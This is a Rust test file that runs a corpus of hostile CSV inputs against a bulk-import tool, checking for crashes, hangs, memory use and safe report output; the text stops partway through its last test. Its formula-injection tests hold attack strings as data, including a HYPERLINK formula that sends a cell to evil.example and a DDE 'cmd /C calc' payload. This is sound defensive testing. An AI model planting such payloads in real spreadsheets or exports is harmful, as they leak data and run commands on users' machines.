//! Nothing an admin or an attacker feeds numbatch crashes it, hangs it,
//! exhausts its memory or poisons a report.
//!
//! Every file of `fixtures/hostile/` (small, committed) and every file that
//! `scripts/gen-hostile` writes (large, generated into a temporary folder) is
//! run through the real binary (`numbatch run FILE`) on a copy of one
//! standard directory. Each has its expectation in the `corpus!` table
//! below; on top of it, every run is checked for what must hold whatever the
//! input:
//!
//! - the exit code is 0, 1 or 2: never 101 (a panic), never 3, never a
//!   signal, never a hang (a time limit) and never more than `MAX_RSS_KB` of
//!   memory (measured with `/usr/bin/time` where it is available);
//! - standard output and error carry no raw control character and stay short;
//! - a file rejected as a whole (exit 2) is named on standard error, with its
//!   line where one is expected, and leaves the directory, the jobs and the
//!   reports folder as they were;
//! - an accepted file's reports have the template's columns, hold every row
//!   once, neutralise every cell a spreadsheet would run as a formula (except
//!   a number in E.164 form), show no raw control character in `Error` and
//!   `Detail`, can be read back by numbatch as they are, and give back the
//!   failed rows' cells as written; the exports afterwards are just as safe.
//!
//! Special paths (a FIFO, a folder, a device, symbolic links, a missing or
//! unreadable file), several files in one run, and control characters in
//! file names have tests of their own at the end.

mod util;

use numbatch::model::Kind;
use numbatch::read::{self, Rows};
use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::ffi::OsStr;
use std::fs::File;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};
use util::*;

/// Longest a single numbatch invocation may take before it counts as hung.
const TIME_LIMIT: Duration = Duration::from_secs(60);
/// Most memory numbatch may use on any of these inputs (the largest is 5 MB).
const MAX_RSS_KB: u64 = 64 * 1024;
/// Longest standard error a rejected file may produce.
const MAX_STDERR: usize = 16 * 1024;

const BIN: &str = env!("CARGO_BIN_EXE_numbatch");

// ---- the corpus ------------------------------------------------------------------

/// Where a corpus file comes from.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Origin {
    /// Committed in `fixtures/hostile/`.
    Fixture,
    /// Written by `scripts/gen-hostile` into the test's temporary folder.
    Generated,
}

/// What numbatch must make of a corpus file.
#[derive(Clone, Copy, Debug)]
enum Expect {
    /// Rejected as a whole: exit 2, naming the file and, when given, the line.
    Rejected { line: Option<u64> },
    /// Accepted: a job of `rows` rows, exit `code` (0 or 1); with
    /// `unchanged`, the directory is the same afterwards.
    Ran {
        code: i32,
        rows: u64,
        unchanged: bool,
    },
    /// Either the row fails with MALFORMED_ROW (exit 1, the directory
    /// unchanged) or the file is rejected naming the line (exit 2).
    RowOrFile { row: u64, line: u64 },
    /// Nothing of it may reach the directory: rejected as a whole (exit 2),
    /// or every row failed (exit 1, the directory unchanged).
    Refused,
}

use Expect::*;

/// What an `extra` check of a corpus entry gets to look at.
struct Ctx<'a> {
    wd: &'a Workdir,
    out: &'a Outcome,
    /// The job of an accepted file.
    job: Option<JobRef>,
}

type Extra = fn(&Ctx);

macro_rules! corpus {
    (@extra) => { None };
    (@extra $extra:expr) => { Some($extra) };
    ($(
        $(#[$meta:meta])*
        $test:ident: $origin:ident $file:literal => $expect:expr $(, $extra:expr)?;
    )*) => {
        /// Every corpus file with its origin.
        const CORPUS: &[(Origin, &str)] = &[$((Origin::$origin, $file)),*];
        $(
            #[test]
            $(#[$meta])*
            fn $test() {
                let extra: Option<Extra> = corpus!(@extra $($extra)?);
                check_corpus_file(Origin::$origin, $file, $expect, extra);
            }
        )*
    };
}

corpus! {
    // -- not a CSV at all
    empty_file: Fixture "empty.csv" => Rejected { line: None };
    header_only: Fixture "header-only.csv" => Ran { code: 0, rows: 0, unchanged: true };
    header_only_without_line_end: Fixture "header-only-no-newline.csv"
        => Ran { code: 0, rows: 0, unchanged: true };
    header_between_blank_lines: Fixture "header-between-blank-lines.csv"
        => Ran { code: 0, rows: 0, unchanged: true };
    bom_only: Fixture "bom-only.csv" => Rejected { line: None };
    bom_and_header_only: Fixture "bom-and-header-only.csv"
        => Ran { code: 0, rows: 0, unchanged: true };
    png_image: Fixture "png.csv" => Rejected { line: None };
    binary_without_nul: Fixture "binary-no-nul.csv" => Rejected { line: Some(1) };
    binary_2mb_without_nul: Generated "binary-2mb-no-nul.csv" => Rejected { line: Some(1) };
    nul_bytes_in_the_middle: Fixture "nul-in-middle.csv" => Rejected { line: None };
    blank_lines_only: Fixture "blank-lines-only.csv" => Rejected { line: None };
    delimiters_only: Fixture "delimiters-only.csv" => Rejected { line: None };

    // -- encodings
    utf16le_with_bom_is_decoded: Fixture "utf16le-bom.csv"
        => Ran { code: 0, rows: 1, unchanged: false },
        |c| assert_eq!(c.wd.users_now()["zoe@contoso.com"]["DisplayName"], "Zoë Åström");
    utf16be_with_bom_is_decoded: Fixture "utf16be-bom.csv"
        => Ran { code: 0, rows: 1, unchanged: false },
        |c| {
            let users = c.wd.users_now();
            assert_eq!(users["yusuf@contoso.com"]["DisplayName"], "Yusuf Çelik – 日本");
            assert_eq!(users["yusuf@contoso.com"]["Plan"], "Advanced");
        };
    utf16le_without_bom: Fixture "utf16le-no-bom.csv" => Rejected { line: None };
    utf16be_without_bom: Fixture "utf16be-no-bom.csv" => Rejected { line: None };
    utf16_nul_characters_in_cells: Fixture "utf16le-bom-nul-in-cells.csv" => Refused;
    utf16_lone_surrogate: Fixture "utf16le-bom-lone-surrogate.csv"
        => Ran { code: 0, rows: 1, unchanged: false },
        |c| assert_eq!(c.wd.users_now()["sur@contoso.com"]["DisplayName"], "\u{FFFD}x");
    windows_1252_names: Fixture "windows-1252.csv" => Ran { code: 0, rows: 1, unchanged: false },
        |c| assert_eq!(
            c.wd.users_now()["rene@contoso.com"]["DisplayName"],
            "René Müller – “Zoë” Œuvre €5"
        );
    utf8_with_one_invalid_byte: Fixture "invalid-utf8-byte.csv"
        => Ran { code: 0, rows: 1, unchanged: false };
    overlong_utf8_sequences: Fixture "overlong-utf8.csv"
        => Ran { code: 0, rows: 1, unchanged: false };
    utf16le_5mb_line: Generated "utf16le-5mb-line.csv" => RowOrFile { row: 2, line: 2 };

    // -- quotes, line ends, delimiters
    unterminated_quote: Fixture "unterminated-quote.csv" => Rejected { line: Some(3) };
    unterminated_quote_at_end_of_file: Fixture "unterminated-quote-at-eof.csv"
        => Rejected { line: Some(3) };
    unterminated_quote_in_header: Fixture "unterminated-quote-in-header.csv"
        => Rejected { line: Some(1) };
    unterminated_quote_then_3mb: Generated "unclosed-quote-then-3mb.csv"
        => Rejected { line: Some(3) };
    a_megabyte_of_quotes: Generated "quotes-1mb.csv" => Rejected { line: Some(2) };
    quote_in_the_middle_of_a_field: Fixture "quote-in-middle-of-field.csv"
        => Ran { code: 0, rows: 1, unchanged: false },
        |c| assert_eq!(c.wd.users_now()["zed@contoso.com"]["DisplayName"], "Zed \"The Boss\" Zimmer");
    no_line_end_at_end_of_file: Fixture "no-newline-at-eof.csv"
        => Ran { code: 0, rows: 2, unchanged: false },
        |c| {
            let users = c.wd.users_now();
            assert!(users.contains_key("yan@contoso.com") && users.contains_key("zed@contoso.com"));
        };
    carriage_return_only_line_ends: Fixture "cr-only-line-ends.csv"
        => Ran { code: 1, rows: 2, unchanged: false };
    carriage_return_only_line_ends_over_1mib: Generated "cr-only-1_2mb.csv"
        => Ran { code: 1, rows: 25000, unchanged: true };
    // Found by the fuzz target: the header pass takes `;;;;` for a blank
    // line, the rows pass for the header, and then reads the header as a row.
    semicolons_before_a_comma_header: Fixture "semicolons-before-comma-header.csv"
        => Ran { code: 0, rows: 1, unchanged: false },
        |c| assert_eq!(c.wd.users_now()["zed@contoso.com"]["DisplayName"], "Zed");
    mixed_line_ends: Fixture "mixed-line-ends.csv" => Ran { code: 0, rows: 3, unchanged: false },
        |c| {
            let users = c.wd.users_now();
            for u in ["yan@contoso.com", "zed@contoso.com", "xi@contoso.com"] {
                assert!(users.contains_key(u), "{u} missing: {users:?}");
            }
        };
    mixed_delimiters: Fixture "mixed-delimiters.csv" => Ran { code: 1, rows: 2, unchanged: true },
        |c| assert_codes(c, &[(2, "MALFORMED_ROW"), (3, "MALFORMED_ROW")]);
    rows_of_every_width: Fixture "row-width-chaos.csv" => Ran { code: 1, rows: 4, unchanged: true },
        |c| assert_codes(c, &[(3, "MALFORMED_ROW"), (4, "MALFORMED_ROW"), (5, "MALFORMED_ROW"), (6, "MISSING_FIELD")]);
    ctrl_z_at_end_of_file: Fixture "ctrl-z-at-eof.csv" => Ran { code: 1, rows: 2, unchanged: false },
        |c| assert_codes(c, &[(3, "MALFORMED_ROW")]);
    blank_lines_200k: Generated "blank-lines-200k.csv" => Ran { code: 1, rows: 1, unchanged: true },
        |c| assert_codes(c, &[(200_002, "INVALID_UPN")]);

    // -- sizes
    header_of_10000_columns: Generated "cols-10000.csv" => Rejected { line: Some(1) };
    header_of_5000_empty_cells: Generated "header-5000-empty-cells.csv" => Rejected { line: None };
    header_with_5000_empty_cells_after_a_column: Generated "header-upn-then-5000-empty.csv"
        => Rejected { line: Some(1) };
    header_cell_of_900kb: Generated "header-900kb-cell.csv" => Rejected { line: Some(1) };
    single_5mb_line: Generated "line-5mb-no-newline.csv" => Rejected { line: Some(1) };
    row_of_5mb: Generated "line-5mb-row.csv" => RowOrFile { row: 2, line: 2 };
    cell_of_2mb: Generated "cell-2mb.csv" => RowOrFile { row: 2, line: 2 };
    cell_of_2mb_over_many_lines: Generated "cell-2mb-multiline.csv" => RowOrFile { row: 2, line: 2 };
    cell_of_100kb: Generated "cell-100kb.csv" => Ran { code: 1, rows: 2, unchanged: false },
        |c| {
            assert_codes(c, &[(2, "MALFORMED_ROW")]);
            assert!(c.wd.users_now().contains_key("yan@contoso.com"));
        };
    row_of_2000_cells: Generated "row-2000-cells.csv" => RowOrFile { row: 2, line: 2 };
    rows_20000_formulas: Generated "rows-20000-formulas.csv"
        => Ran { code: 1, rows: 20_000, unchanged: true };

    // -- headers
    header_with_escape_sequences: Fixture "header-escape-sequences.csv" => Rejected { line: Some(1) },
        |c| {
            assert!(c.out.stderr.contains("\\u{1b}"), "{}", c.out.stderr);
            assert!(c.out.stderr.contains("Red"), "{}", c.out.stderr);
        };
    unknown_column: Fixture "unknown-column.csv" => Rejected { line: Some(1) },
        |c| assert!(c.out.stderr.contains("\"Colour\""), "{}", c.out.stderr);
    duplicate_columns: Fixture "duplicate-columns.csv" => Rejected { line: Some(1) },
        |c| assert!(c.out.stderr.contains("twice"), "{}", c.out.stderr);
    formulas_in_the_header: Fixture "header-formulas.csv" => Rejected { line: Some(1) };

    // -- formula injection
    formula_hyperlink: Fixture "formula-hyperlink.csv" => Ran { code: 1, rows: 2, unchanged: false },
        |c| {
            let evil = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")";
            let job = c.job.as_ref().unwrap();
            assert_eq!(c.wd.failed_row(job, 2)["UserPrincipalName"], format!("'{evil}"));
            assert_eq!(c.wd.succeeded_row(job, 3)["DisplayName"], format!("'{evil}"));
            assert_eq!(c.wd.users_now()["mallory@contoso.com"]["DisplayName"], format!("'{evil}"));
        };
    formula_at_sum: Fixture "formula-at-sum.csv" => Ran { code: 1, rows: 3, unchanged: true },
        |c| {
            let job = c.job.as_ref().unwrap();
            let row = c.wd.failed_row(job, 3);
            assert_eq!(row["UserPrincipalName"], "'@SUM(A1:A9)");
            assert_eq!(row["PhoneNumber"], "'@SUM(1+1)");
            assert_eq!(row["Action"], "'@assign");
        };
    formula_minus: Fixture "formula-minus.csv" => Ran { code: 1, rows: 3, unchanged: true },
        |c| assert_eq!(c.wd.failed_row(c.job.as_ref().unwrap(), 2)["UserPrincipalName"], "'-1+2");
    formula_dde: Fixture "formula-dde.csv" => Ran { code: 1, rows: 3, unchanged: true },
        |c| {
            let job = c.job.as_ref().unwrap();
            assert_eq!(c.wd.failed_row(job, 2)["UserPrincipalName"], "'+cmd|' /C calc'!A0");
            assert_eq!(c.wd.failed_row(job, 3)["VoiceEnabled"], "'=cmd|' /C calc'!A0");
        };
    formula_after_tab_or_carriage_return: Fixture "formula-tab-cr.csv"
        => Ran { code: 1, rows: 3, unchanged: true },
        |c| {
            let job = c.job.as_ref().unwrap();
            assert_eq!(c.wd.failed_row(job, 2)["UserPrincipalName"], "'\t=1+1");
            assert_eq!(c.wd.failed_row(job, 3)["Plan"], "'\r=2+2");
            assert_eq!(c.wd.failed_row(job, 4)["VoiceEnabled"], "'\t@SUM(1)");
        };
    formulas_beside_e164_numbers: Fixture "formula-and-e164-numbers.csv"
        => Ran { code: 1, rows: 4, unchanged: true },
        |c| {
            let job = c.job.as_ref().unwrap();
            assert_eq!(c.wd.succeeded_row(job, 2)["PhoneNumber"], "+442079460001");
            assert_eq!(c.wd.failed_row(job, 3)["PhoneNumber"], "'=+442079460002");
            assert_eq!(c.wd.failed_row(job, 4)["NumberType"], "'=subscriber");
            assert!(c.wd.numbers_now().contains_key("+442079460001"));
        };
    failed_report_handed_back: Fixture "failed-report-handed-back.csv"
        => Ran { code: 1, rows: 3, unchanged: true },
        |c| {
            let job = c.job.as_ref().unwrap();
            assert_eq!(c.wd.failed_row(job, 2)["UserPrincipalName"], "'=HYPERLINK(\"http://evil.example/\",\"x\")");
            assert_eq!(c.wd.failed_row(job, 3)["UserPrincipalName"], "'@SUM(1+1)");
        };

    // -- user principal names
    control_characters_in_upns: Fixture "control-chars-in-upn.csv"
        => Ran { code: 1, rows: 5, unchanged: true },
        |c| {
            assert_all_codes(c, "INVALID_UPN");
            for r in c.wd.failed(c.job.as_ref().unwrap()) {
                assert!(r["Error"].contains("\\u{"), "{r:?}");
            }
        };
    invisible_characters_in_upns: Fixture "invisible-chars-in-upn.csv"
        => Ran { code: 1, rows: 7, unchanged: true },
        |c| assert_all_codes(c, "INVALID_UPN");
    right_to_left_override_in_upns: Fixture "rtl-override-upn.csv"
        => Ran { code: 1, rows: 4, unchanged: true },
        |c| assert_all_codes(c, "INVALID_UPN");
    extremely_long_upns: Fixture "long-upn.csv" => Ran { code: 1, rows: 3, unchanged: true },
        |c| {
            assert_codes(c, &[(2, "MALFORMED_ROW"), (3, "USER_NOT_FOUND"), (4, "USER_NOT_FOUND")]);
            let row = c.wd.failed_row(c.job.as_ref().unwrap(), 2);
            assert!(row["UserPrincipalName"].len() <= read::MAX_CELL_BYTES, "not clipped");
        };
    emoji: Fixture "emoji.csv" => Ran { code: 1, rows: 3, unchanged: false },
        |c| {
            assert_codes(c, &[(4, "INVALID_VALUE")]);
            assert_eq!(c.wd.users_now()["😀@contoso.com"]["DisplayName"], "🎉 Party 👨‍👩‍👧");
        };
    escape_sequences_in_cells: Fixture "escape-sequences-in-cells.csv"
        => Ran { code: 1, rows: 4, unchanged: false },
        |c| {
            let job = c.job.as_ref().unwrap();
            // Row 2's DisplayName holds ESC and BEL: refused or kept, but
            // never shown raw (checked for every run and report).
            let codes: Vec<_> = c.wd.codes(job).into_iter().filter(|(r, _)| *r > 2).collect();
            assert_eq!(codes, vec![(3, "INVALID_VALUE".into()), (4, "UNKNOWN_ACTION".into())]);
            // `show` puts a stored name on the terminal: invisible
            // characters escaped.
            let show = c.wd.exec(&["show", "rlo@contoso.com"]);
            show.assert_code(0);
            assert!(!has_raw_control(&show.stdout), "{:?}", show.stdout);
            assert!(!show.stdout.contains(['\u{202e}', '\u{200b}']), "{:?}", show.stdout);
            assert!(show.stdout.contains("\\u{202e}"), "{}", show.stdout);
        };

    // -- numbers
    tel_prefixes_with_junk: Fixture "tel-junk.csv" => Ran { code: 1, rows: 12, unchanged: true },
        |c| assert_eq!(c.wd.held_by(ERIN), (None, vec![]));
}

// ---- checking one corpus file ----------------------------------------------------------

fn fixtures_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/hostile")
}

fn gen_script() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts/gen-hostile")
}

/// Runs `scripts/gen-hostile` with `args`; its standard output.
fn gen_hostile(args: &[&OsStr]) -> String {
    let out = Command::new(gen_script())
        .args(args)
        .output()
        .unwrap_or_else(|e| panic!("cannot run scripts/gen-hostile (needs python3): {e}"));
    assert!(
        out.status.success(),
        "scripts/gen-hostile failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

fn check_corpus_file(origin: Origin, name: &str, expect: Expect, extra: Option<Extra>) {
    let wd = standard_workdir();
    let path = match origin {
        Origin::Fixture => fixtures_dir().join(name),
        Origin::Generated => {
            let dir = wd.path("generated");
            gen_hostile(&[dir.as_os_str(), OsStr::new(name)]);
            dir.join(name)
        }
    };
    assert!(path.is_file(), "{} is missing", path.display());
    let out = run_numbatch(&wd, &[OsStr::new("run"), path.as_os_str()], TIME_LIMIT);
    assert_sane(&out, name);
    let job = match expect {
        Rejected { line } => {
            assert_rejected(&wd, &out, name, line);
            None
        }
        Ran {
            code,
            rows,
            unchanged,
        } => Some(assert_ran(&wd, &out, &path, code, rows, unchanged)),
        RowOrFile { row, line } => match out.code {
            2 => {
                assert_rejected(&wd, &out, name, Some(line));
                None
            }
            _ => {
                let job = assert_ran(&wd, &out, &path, 1, 1, true);
                let code = &wd.failed_row(&job, row)["ErrorCode"];
                assert_eq!(code, "MALFORMED_ROW", "{name}");
                Some(job)
            }
        },
        Refused => match out.code {
            2 => {
                assert_rejected(&wd, &out, name, None);
                None
            }
            _ => {
                let job = new_jobs(&wd);
                let job = &job[0];
                let rows = job["rows"].as_u64().unwrap();
                let job = assert_ran(&wd, &out, &path, 1, rows, true);
                Some(job)
            }
        },
    };
    if let Some(extra) = extra {
        extra(&Ctx {
            wd: &wd,
            out: &out,
            job,
        });
    }
}

/// Exit 2 naming the file (and the line), and nothing changed at all.
fn assert_rejected(wd: &Workdir, out: &Outcome, name: &str, line: Option<u64>) {
    assert_eq!(out.code, 2, "{name}: expected exit 2\n{out}");
    assert!(
        out.stderr.contains(name),
        "{name}: the message does not name the file\n{out}"
    );
    if let Some(line) = line {
        assert!(
            out.stderr.contains(&format!("line {line}:")),
            "{name}: the message does not name line {line}\n{out}"
        );
    }
    assert_unchanged(wd, name);
    assert!(
        new_jobs(wd).is_empty(),
        "{name}: a rejected file left a job: {:?}",
        new_jobs(wd)
    );
    let reports = wd.path("reports");
    let left: Vec<_> = std::fs::read_dir(&reports)
        .map(|d| d.map(|e| e.unwrap().file_name()).collect())
        .unwrap_or_default();
    assert!(
        left.is_empty(),
        "{name}: a rejected file left reports: {left:?}"
    );
}

/// The run made one job of `rows` rows and exited `code`; its reports and the
/// exports are sound. Returns the job.
fn assert_ran(
    wd: &Workdir,
    out: &Outcome,
    input: &Path,
    code: i32,
    rows: u64,
    unchanged: bool,
) -> JobRef {
    let name = input.file_name().unwrap().to_string_lossy().into_owned();
    assert_eq!(out.code, code, "{name}: unexpected exit code\n{out}");
    let jobs = new_jobs(wd);
    assert_eq!(
        jobs.len(),
        1,
        "{name}: expected one new job: {jobs:?}\n{out}"
    );
    let json = &jobs[0];
    assert_eq!(json["state"], "done", "{name}: {json}");
    assert_eq!(json["rows"].as_u64(), Some(rows), "{name}: {json}");
    let job = JobRef {
        id: json["id"].as_i64().unwrap(),
        stem: input.file_stem().unwrap().to_string_lossy().into_owned(),
    };
    let kind = match json["kind"].as_str().unwrap() {
        "assignments" => Kind::Assignments,
        "users" => Kind::Users,
        "numbers" => Kind::Numbers,
        other => panic!("unknown kind {other}"),
    };
    check_reports(wd, &job, kind, input, rows);
    check_exports(wd);
    if unchanged {
        assert_unchanged(wd, &name);
    }
    job
}

/// Both reports of an accepted file: see the module comment.
fn check_reports(wd: &Workdir, job: &JobRef, kind: Kind, input: &Path, rows: u64) {
    let template: Vec<&str> = kind.columns().iter().map(|c| c.name()).collect();
    // The input as numbatch reads it: row number → cells in the template's columns.
    let source = read::open(input, None, u64::MAX).expect("an accepted file reads");
    let written: HashMap<u64, Vec<String>> = Rows::new(&source)
        .unwrap()
        .map(|r| {
            let r = r.expect("an accepted file reads to the end");
            (r.row, source.layout.template_cells(r.cells))
        })
        .collect();
    let mut seen = BTreeSet::new();
    for (which, tail) in [
        ("succeeded", ["Row", "Outcome", "Detail"]),
        ("failed", ["Row", "ErrorCode", "Error"]),
    ] {
        let path = wd.path(&Workdir::report_name(job, which));
        let bytes =
            std::fs::read(&path).unwrap_or_else(|e| panic!("{}: no {which} report: {e}", job.stem));
        let text = String::from_utf8(bytes).expect("a report is UTF-8");
        let (header, records) = parse_csv(&text);
        let mut expected = template.clone();
        expected.extend(tail);
        assert_eq!(header, expected, "{which} report header");
        for rec in &records {
            let row: u64 = rec[template.len()].parse().expect("Row is a number");
            assert!(seen.insert(row), "row {row} is reported twice");
            for cell in rec {
                assert_safe_cell(cell, &path);
            }
            let message = &rec[template.len() + 2];
            assert!(
                !has_raw_control(message) && !message.contains('\r'),
                "{}: raw control character in {:?}",
                path.display(),
                message
            );
            if which == "failed" {
                // The failed row gives back what the admin wrote.
                let original = written
                    .get(&row)
                    .unwrap_or_else(|| panic!("row {row} is not in the input"));
                for (i, column) in template.iter().enumerate() {
                    // As written, but a NUL, which no CSV reader takes back, shows as `\u{0}`.
                    assert_eq!(
                        read::clean(&rec[i]),
                        read::clean(&original[i]).replace('\0', "\\u{0}"),
                        "row {row}, {column}: the failed report does not give back the cell as written"
                    );
                }
            }
        }
        assert_reads_back(&path, Some(kind), records.len());
    }
    assert_eq!(
        seen.len() as u64,
        rows,
        "every row is in exactly one report"
    );
}

/// Every export is safe for a spreadsheet and can be read back by numbatch.
fn check_exports(wd: &Workdir) {
    for kind in ["assignments", "users", "numbers"] {
        let text = wd.export(kind);
        let path = wd.path(&format!("export-{kind}.csv"));
        std::fs::write(&path, &text).unwrap();
        let (_, records) = parse_csv(&text);
        for cell in records.iter().flatten() {
            assert_safe_cell(cell, &path);
        }
        assert_reads_back(&path, None, records.len());
        std::fs::remove_file(&path).unwrap();
    }
}

/// numbatch reads a CSV it wrote, as it is, to the same number of records.
fn assert_reads_back(path: &Path, kind: Option<Kind>, records: usize) {
    let source = read::open(path, kind, u64::MAX).unwrap_or_else(|e| {
        panic!(
            "{}: numbatch cannot read back what it wrote: {e}",
            path.display()
        )
    });
    let mut n = 0;
    for row in Rows::new(&source).unwrap() {
        row.unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        n += 1;
    }
    assert_eq!(n, records, "{}: records read back", path.display());
}

/// A spreadsheet would not run `cell` as a formula.
fn assert_safe_cell(cell: &str, path: &Path) {
    assert!(
        !starts_like_formula(cell) || is_e164(cell),
        "{}: cell {cell:?} would run as a formula",
        path.display()
    );
}

fn starts_like_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// `+` and 8 to 15 digits.
fn is_e164(cell: &str) -> bool {
    let digits = cell.strip_prefix('+').unwrap_or("");
    (8..=15).contains(&digits.len()) && digits.bytes().all(|b| b.is_ascii_digit())
}

/// The failed rows are exactly `codes` (row, ErrorCode).
fn assert_codes(c: &Ctx, codes: &[(u64, &str)]) {
    let got = c.wd.codes(c.job.as_ref().expect("a job"));
    let want: Vec<(u64, String)> = codes.iter().map(|(r, s)| (*r, s.to_string())).collect();
    assert_eq!(got, want);
}

/// Every row failed with `code`.
fn assert_all_codes(c: &Ctx, code: &str) {
    let job = c.job.as_ref().expect("a job");
    assert!(c.wd.succeeded(job).is_empty());
    for (row, got) in c.wd.codes(job) {
        assert_eq!(got, code, "row {row}");
    }
}

// ---- the standard directory and running numbatch -----------------------------------------

/// The standard directory with a few numbers given, built once: the bytes of
/// its database, its exports and its jobs.
struct Standard {
    db: Vec<u8>,
    exports: BTreeMap<&'static str, String>,
    jobs: usize,
}

fn standard() -> &'static Standard {
    static STANDARD: OnceLock<Standard> = OnceLock::new();
    STANDARD.get_or_init(|| {
        let wd = Workdir::new();
        wd.setup_directory();
        let rows = [
            format!("{ALICE},{},assign", uk(1)),
            format!("{BOB},{},add", uk(2)),
            format!("{CAROL},{},assign", us(1)),
        ];
        wd.give(&rows.iter().map(String::as_str).collect::<Vec<_>>());
        assert!(
            !wd.path("numbatch.db-wal").exists(),
            "the database was left with a write-ahead log"
        );
        Standard {
            db: std::fs::read(wd.db()).unwrap(),
            exports: exports(&wd),
            jobs: wd.jobs().len(),
        }
    })
}

/// A fresh folder holding a copy of the standard directory.
fn standard_workdir() -> Workdir {
    let standard = standard();
    let wd = Workdir::new();
    std::fs::write(wd.db(), &standard.db).unwrap();
    wd
}

fn exports(wd: &Workdir) -> BTreeMap<&'static str, String> {
    ["assignments", "users", "numbers"]
        .into_iter()
        .map(|k| (k, wd.export(k)))
        .collect()
}

/// The directory is the standard one still.
fn assert_unchanged(wd: &Workdir, name: &str) {
    let now = exports(wd);
    for (kind, before) in &standard().exports {
        assert_eq!(
            &now[kind], before,
            "{name}: `export {kind}` changed (the directory was touched)"
        );
    }
}

/// The jobs made after the standard directory's.
fn new_jobs(wd: &Workdir) -> Vec<serde_json::Value> {
    wd.jobs().into_iter().skip(standard().jobs).collect()
}

/// One numbatch invocation: its exit code, output and peak memory.
#[derive(Debug)]
struct Outcome {
    code: i32,
    stdout: String,
    stderr: String,
    /// Peak resident memory in KiB, when `/usr/bin/time` could measure it.
    rss_kb: Option<u64>,
}

impl std::fmt::Display for Outcome {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let clip = |s: &str| s.chars().take(2000).collect::<String>();
        write!(
            f,
            "exit {}\nstdout:\n{}\nstderr:\n{}",
            self.code,
            clip(&self.stdout),
            clip(&self.stderr)
        )
    }
}

/// GNU time, which can write the peak memory to a file.
fn gnu_time() -> Option<&'static Path> {
    static TIME: OnceLock<bool> = OnceLock::new();
    let path = Path::new("/usr/bin/time");
    let works = *TIME.get_or_init(|| {
        let probe = tempfile::NamedTempFile::new().unwrap();
        Command::new(path)
            .args(["-f", "%M", "-o"])
            .arg(probe.path())
            .arg("true")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success())
            && std::fs::read_to_string(probe.path()).is_ok_and(|s| s.trim().parse::<u64>().is_ok())
    });
    works.then_some(path)
}

/// Runs `numbatch --db DB ARGS` in the folder, under a time limit (killed
/// and failed past it), measuring its peak memory where it can.
fn run_numbatch(wd: &Workdir, args: &[&OsStr], limit: Duration) -> Outcome {
    let io = tempfile::tempdir().unwrap();
    let rss_file = io.path().join("rss");
    let mut cmd = match gnu_time() {
        Some(time) => {
            let mut c = Command::new(time);
            c.args(["-f", "%M", "-o"]).arg(&rss_file).arg(BIN);
            c
        }
        None => Command::new(BIN),
    };
    cmd.current_dir(wd.root())
        .env_remove("NUMBATCH_DB")
        .env_remove("NUMBATCH_TEST_ABORT_AFTER_BATCHES")
        .arg("--db")
        .arg(wd.db())
        .args(args)
        .stdin(Stdio::null())
        .stdout(File::create(io.path().join("out")).unwrap())
        .stderr(File::create(io.path().join("err")).unwrap());
    // Its own process group, so that a hung numbatch under `time` dies too.
    std::os::unix::process::CommandExt::process_group(&mut cmd, 0);
    let mut child = cmd.spawn().expect("start numbatch");
    let start = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if start.elapsed() > limit {
            let _ = Command::new("kill")
                .args(["-KILL", "--", &format!("-{}", child.id())])
                .status();
            let _ = child.kill();
            let _ = child.wait();
            panic!(
                "numbatch {:?} hung: still running after {limit:?}",
                args.iter().map(|a| a.to_string_lossy()).collect::<Vec<_>>()
            );
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    let read = |name: &str| {
        let mut bytes = Vec::new();
        File::open(io.path().join(name))
            .unwrap()
            .read_to_end(&mut bytes)
            .unwrap();
        bytes
    };
    let (stdout, stderr) = (read("out"), read("err"));
    let rss_kb = std::fs::read_to_string(&rss_file)
        .ok()
        .and_then(|s| s.lines().last()?.trim().parse().ok());
    let code = match status.code() {
        Some(code) => code,
        None => panic!("numbatch was killed by a signal: {status:?}"),
    };
    // GNU time reports a child killed by a signal in its output file.
    if let Ok(s) = std::fs::read_to_string(&rss_file) {
        assert!(!s.contains("signal"), "numbatch was killed: {s}");
    }
    Outcome {
        code,
        stdout: String::from_utf8_lossy(&stdout).into_owned(),
        stderr: String::from_utf8_lossy(&stderr).into_owned(),
        rss_kb,
    }
}

/// What holds for every run, whatever the input.
fn assert_sane(out: &Outcome, name: &str) {
    if let Some(kb) = out.rss_kb {
        eprintln!("{name}: peak RSS {kb} KiB");
        assert!(kb <= MAX_RSS_KB, "{name}: numbatch used {kb} KiB of memory");
    }
    assert_ne!(out.code, 101, "{name}: numbatch panicked\n{out}");
    assert!(
        !out.stderr.contains("panicked"),
        "{name}: numbatch panicked\n{out}"
    );
    assert!(
        matches!(out.code, 0..=2),
        "{name}: exit {} is neither 0, 1 nor 2\n{out}",
        out.code
    );
    // Above all no ESC: an escape sequence could drive the admin's terminal.
    assert!(
        !has_raw_control(&out.stdout) && !has_raw_control(&out.stderr),
        "{name}: raw control characters in the output\n{out:?}"
    );
    assert!(
        out.stderr.len() <= MAX_STDERR,
        "{name}: {} bytes on standard error\n{out}",
        out.stderr.len()
    );
}

/// A run of a path that must be refused as a whole.
fn assert_path_refused(wd: &Workdir, path: &Path, shown: &str, limit: Duration) -> Outcome {
    let out = run_numbatch(wd, &[OsStr::new("run"), path.as_os_str()], limit);
    assert_sane(&out, shown);
    assert_rejected(wd, &out, shown, None);
    out
}

// ---- the corpus is the folder --------------------------------------------------------

#[test]
fn corpus_table_lists_every_fixture_and_generated_file() {
    let mut on_disk: BTreeSet<String> = std::fs::read_dir(fixtures_dir())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| !n.starts_with('.') && n != "README.md")
        .collect();
    let generated: BTreeSet<String> = gen_hostile(&[OsStr::new("--list")])
